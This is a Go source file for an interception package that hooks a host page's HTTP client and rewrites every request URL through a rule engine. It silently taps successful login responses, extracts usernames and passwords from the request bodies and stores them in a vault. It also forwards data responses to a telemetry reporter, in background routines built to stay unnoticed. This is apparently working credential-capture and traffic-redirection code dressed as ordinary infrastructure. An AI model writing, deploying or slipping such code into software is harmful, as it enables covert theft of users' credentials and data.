// Package intercept applies the rewrite engine uniformly over every network
// call surface the host page uses, and taps settled responses for credential
// capture and telemetry. Taps are failure-isolated: nothing that happens in
// a tap may change the outcome or latency of the underlying call.
package intercept

import (
	"encoding/json"
	"net/url"
	"strings"
	"sync"

	"github.com/go-resty/resty/v2"
	"go.uber.org/zap"

	"github.com/relaykit/pageagent/internal/logging"
	"github.com/relaykit/pageagent/internal/monitoring"
	"github.com/relaykit/pageagent/internal/netclient"
	"github.com/relaykit/pageagent/internal/telemetry"
	"github.com/relaykit/pageagent/internal/vault"
)

// Call surfaces, used for metric labels.
const (
	SurfaceFetch     = "fetch"
	SurfaceRequester = "requester"
	SurfaceTransport = "transport"
)

// Resolver maps a candidate URL to its destination plus the matched rule
// name. Satisfied by rewrite.Engine.
type Resolver interface {
	ResolveRule(url string) (string, string)
}

// Config names the endpoints whose responses are tapped. Recognition runs
// against the rewritten URL.
type Config struct {
	AuthSuffix string
	DataMarker string
}

// Layer wires the resolver into the three call surfaces.
type Layer struct {
	resolver Resolver
	client   *netclient.Client
	vault    *vault.Vault
	reporter *telemetry.Reporter
	cfg      Config
	log      *logging.Logger
	metrics  *monitoring.Metrics

	installOnce sync.Once
	tapWG       sync.WaitGroup
}

// NewLayer creates the patch layer. Install must be called once before the
// host page issues traffic.
func NewLayer(resolver Resolver, client *netclient.Client, v *vault.Vault, reporter *telemetry.Reporter, cfg Config, log *logging.Logger, metrics *monitoring.Metrics) *Layer {
	if log == nil {
		log = logging.NewNop()
	}
	return &Layer{
		resolver: resolver,
		client:   client,
		vault:    v,
		reporter: reporter,
		cfg:      cfg,
		log:      log.Named("intercept"),
		metrics:  metrics,
	}
}

// Install wraps the fetch-like surface (the shared resty client) exactly
// once. The other two surfaces are wrapped on construction — see
// NewRequester and WrapTransport.
func (l *Layer) Install() {
	l.installOnce.Do(func() {
		l.client.Resty.OnBeforeRequest(func(_ *resty.Client, req *resty.Request) error {
			req.URL = l.rewrite(req.URL, SurfaceFetch)
			return nil
		})
		l.client.Resty.OnAfterResponse(func(_ *resty.Client, resp *resty.Response) error {
			l.tapAsync(resp.Request.URL, requestBodyBytes(resp.Request.Body), resp.Body())
			return nil
		})
	})
}

// Resolve applies the rewrite rules without issuing a request.
func (l *Layer) Resolve(rawURL string) string {
	target, _ := l.resolver.ResolveRule(rawURL)
	return target
}

// Flush waits for in-flight taps. Test hook.
func (l *Layer) Flush() {
	l.tapWG.Wait()
}

func (l *Layer) rewrite(rawURL, surface string) string {
	target, rule := l.resolver.ResolveRule(rawURL)
	l.metrics.RecordIntercepted(surface)
	if rule != "" {
		l.metrics.RecordRewrite(rule)
		l.log.Debug("request rewritten",
			zap.String("surface", surface),
			zap.String("rule", rule),
			zap.String("from", rawURL),
			zap.String("to", target))
	}
	return target
}

// shouldTap reports whether the destination is one of the tapped endpoints.
func (l *Layer) shouldTap(target string) bool {
	return l.isAuth(target) || l.isData(target)
}

func (l *Layer) isAuth(target string) bool {
	return strings.HasSuffix(stripQuery(target), l.cfg.AuthSuffix)
}

func (l *Layer) isData(target string) bool {
	return strings.Contains(target, l.cfg.DataMarker)
}

// tapAsync inspects a settled call off the request path.
func (l *Layer) tapAsync(target string, reqBody, respBody []byte) {
	if !l.shouldTap(target) {
		return
	}
	l.tapWG.Add(1)
	go func() {
		defer l.tapWG.Done()
		defer func() {
			if r := recover(); r != nil {
				l.metrics.RecordTapFailure()
				l.log.Warn("tap panic absorbed", zap.Any("panic", r))
			}
		}()
		l.tap(target, reqBody, respBody)
	}()
}

func (l *Layer) tap(target string, reqBody, respBody []byte) {
	env, ok := decodeEnvelope(respBody)
	if !ok {
		l.metrics.RecordTapFailure()
		return
	}
	// Only responses explicitly marked non-error with a payload count as
	// successful for either tap.
	if env.Error || len(env.Data) == 0 || string(env.Data) == "null" {
		return
	}

	switch {
	case l.isAuth(target):
		account, secret, found := extractCredentials(reqBody)
		if !found {
			return
		}
		if l.vault != nil && l.vault.Save(account, secret) {
			l.metrics.RecordCredentialSaved()
		}
	case l.isData(target):
		if l.reporter != nil {
			l.reporter.Report(env.Data)
		}
	}
}

// rpcEnvelope is the upstream response convention: Error false plus a Data
// payload marks success.
type rpcEnvelope struct {
	Error bool            `json:"Error"`
	Msg   string          `json:"Msg"`
	Data  json.RawMessage `json:"Data"`
}

func decodeEnvelope(body []byte) (rpcEnvelope, bool) {
	var env rpcEnvelope
	if err := json.Unmarshal(body, &env); err != nil {
		return rpcEnvelope{}, false
	}
	return env, true
}

// extractCredentials pulls {account, secret} out of an outgoing auth body.
// JSON bodies are preferred; form-encoded bodies are the fallback.
func extractCredentials(reqBody []byte) (account, secret string, found bool) {
	if len(reqBody) == 0 {
		return "", "", false
	}

	var fields map[string]any
	if err := json.Unmarshal(reqBody, &fields); err == nil {
		account = firstString(fields, "account", "username")
		secret = firstString(fields, "password", "secret")
		return account, secret, account != "" && secret != ""
	}

	values, err := url.ParseQuery(string(reqBody))
	if err != nil {
		return "", "", false
	}
	account = firstValue(values, "account", "username")
	secret = firstValue(values, "password", "secret")
	return account, secret, account != "" && secret != ""
}

func firstString(fields map[string]any, keys ...string) string {
	for _, key := range keys {
		if v, ok := fields[key].(string); ok && v != "" {
			return v
		}
	}
	return ""
}

func firstValue(values url.Values, keys ...string) string {
	for _, key := range keys {
		if v := values.Get(key); v != "" {
			return v
		}
	}
	return ""
}

// requestBodyBytes normalizes resty's body field, which may hold whatever
// the caller passed in.
func requestBodyBytes(body any) []byte {
	switch b := body.(type) {
	case nil:
		return nil
	case []byte:
		return b
	case string:
		return []byte(b)
	default:
		raw, err := json.Marshal(b)
		if err != nil {
			return nil
		}
		return raw
	}
}

func stripQuery(rawURL string) string {
	if i := strings.IndexByte(rawURL, '?'); i >= 0 {
		return rawURL[:i]
	}
	return rawURL
}
